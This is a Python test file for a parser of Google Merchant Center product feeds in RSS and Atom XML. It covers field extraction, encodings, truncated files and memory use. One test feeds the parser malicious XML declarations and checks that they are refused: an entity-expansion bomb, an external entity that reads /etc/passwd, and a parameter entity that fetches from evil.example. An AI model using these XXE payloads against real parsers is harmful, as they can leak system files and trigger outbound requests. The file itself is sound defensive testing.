"""Merchant Center feeds in XML, and malicious XML."""

from __future__ import annotations

import tracemalloc
from pathlib import Path

import pytest

from shoplens.errors import FeedError
from shoplens.feeds import read_feed
from tests.feeds.feeds import read_checked, write_file

NAMESPACE = 'xmlns:g="http://base.google.com/ns/1.0"'


def rss(*items: str) -> str:
    body = "".join(f"<item>{item}</item>" for item in items)
    head = "<title>Shop</title><link>https://shop.example</link>"
    return f'<?xml version="1.0"?><rss {NAMESPACE} version="2.0"><channel>{head}{body}</channel></rss>'


ITEM = """
<g:id>A</g:id><title>Hoodie &amp; Hat</title><g:description>&lt;p&gt;Warm&lt;/p&gt;</g:description>
<description>plain</description><link>https://shop.example/a</link><g:image_link>a.jpg</g:image_link>
<g:additional_image_link>b.jpg</g:additional_image_link><g:additional_image_link>c.jpg</g:additional_image_link>
<g:price>12.99 EUR</g:price><g:product_type>Men &gt; Tops</g:product_type><g:product_type>New</g:product_type>
<g:color>Black/White</g:color><g:item_group_id>G</g:item_group_id><g:shipping><g:price>1 EUR</g:price></g:shipping>
<g:product_detail><g:section_name>General</g:section_name><g:attribute_name>Neck</g:attribute_name>
<g:attribute_value>V, deep</g:attribute_value></g:product_detail>
"""


def test_rss(tmp_path: Path) -> None:
    result = read_checked(write_file(tmp_path / "f.xml", rss(ITEM)))
    (product,) = result.products
    assert (product.id, product.title, product.description, product.url) == (
        "A",
        "Hoodie & Hat",
        "Warm",
        "https://shop.example/a",
    )
    assert product.photos == tuple(str(tmp_path / name) for name in ("a.jpg", "b.jpg", "c.jpg"))
    assert (product.price, product.currency, product.category, product.group_id) == (12.99, "EUR", ("Men", "Tops"), "G")
    assert dict(product.attributes) == {"color": ("Black", "White"), "neck": ("V deep",)}
    assert result.rejections == []


def test_atom(tmp_path: Path) -> None:
    text = f"""<feed xmlns="http://www.w3.org/2005/Atom" {NAMESPACE}><title>Shop</title><id>urn:shop</id>
    <entry><id>urn:a</id><g:id>A</g:id><title>Hoodie</title><summary>Warm</summary><updated>2024</updated>
    <link href="https://shop.example/a"/><g:image_link>a.jpg</g:image_link></entry></feed>"""
    (product,) = read_checked(write_file(tmp_path / "f.xml", text)).products
    assert (product.id, product.title, product.description, product.url) == (
        "A",
        "Hoodie",
        "Warm",
        "https://shop.example/a",
    )
    assert dict(product.attributes) == {}


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "iso-8859-1"])
def test_encodings(tmp_path: Path, encoding: str) -> None:
    text = rss("<g:id>A</g:id><title>Größe</title><g:image_link>a.jpg</g:image_link>")
    declared = {"utf-8-sig": "utf-8"}.get(encoding, encoding)
    text = text.replace('version="1.0"?', f'version="1.0" encoding="{declared}"?')
    assert read_checked(write_file(tmp_path / "f", text.encode(encoding))).products[0].title == "Größe"


def test_items_are_numbered_and_sizes_folded(tmp_path: Path) -> None:
    def item(name: str, more: str) -> str:
        return f"<g:id>{name}</g:id><g:title>T</g:title><g:image_link>a.jpg</g:image_link>{more}"

    group = "<g:item_group_id>G</g:item_group_id>"
    result = read_checked(
        write_file(
            tmp_path / "f",
            rss(item("1", f"{group}<g:size>S</g:size>"), item("", ""), item("2", f"{group}<g:size>M</g:size>")),
        )
    )
    assert [product.attributes["size"] for product in result.products] == [("S", "M")]
    assert (result.only("missing-id").row, result.counts.rows) == (2, 3)


BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    "declaration",
    [
        BOMB,
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>',
    ],
)
def test_xml_that_declares_anything_is_refused(tmp_path: Path, declaration: str) -> None:
    text = rss("<g:id>&b;</g:id>").replace("<rss", f"{declaration}<rss", 1)
    with pytest.raises(FeedError) as caught:
        read_feed(write_file(tmp_path / "f", text))
    assert caught.value.code == "unsafe-xml" and "DOCTYPE" in caught.value.fix


@pytest.mark.parametrize("doctype", ['<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">', "<!DOCTYPE rss>"])
def test_a_document_type_without_declarations_is_passed_over(tmp_path: Path, doctype: str) -> None:
    text = rss("<g:id>1</g:id><g:image_link>1.jpg</g:image_link>").replace("<rss", f"{doctype}<rss", 1)
    assert [product.id for product in read_checked(write_file(tmp_path / "f", text)).products] == ["1"]


def test_xml_that_breaks_off_is_refused_as_a_whole(tmp_path: Path) -> None:
    text = rss(*(f"<g:id>{n}</g:id><g:image_link>{n}.jpg</g:image_link>" for n in range(3_000)))
    feed = read_feed(write_file(tmp_path / "f", text[: len(text) // 2]))
    with pytest.raises(FeedError) as caught:
        list(feed)
    assert caught.value.code == "bad-xml"


@pytest.mark.parametrize("text", ["<html><body/></html>", "<catalog xmlns='urn:x'><item/></catalog>"])
def test_other_xml_is_unknown(tmp_path: Path, text: str) -> None:
    with pytest.raises(FeedError) as caught:
        read_feed(write_file(tmp_path / "f", text))
    assert caught.value.code == "unknown-header"


@pytest.mark.slow
def test_memory_is_flat(tmp_path: Path) -> None:
    def peak(count: int) -> int:
        path = tmp_path / f"{count}.xml"
        with path.open("w") as file:
            start, end = rss("@").split("<item>@</item>")
            file.write(start)
            for n in range(count):
                file.write(
                    f"<item><g:id>{n}</g:id><g:title>T {n}</g:title><g:image_link>{n}.jpg</g:image_link></item>\n"
                )
            file.write(end)
        tracemalloc.start()
        with read_feed(path) as feed:
            assert feed.count == count
        size = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return size

    assert peak(5_000) < peak(500) + 300_000
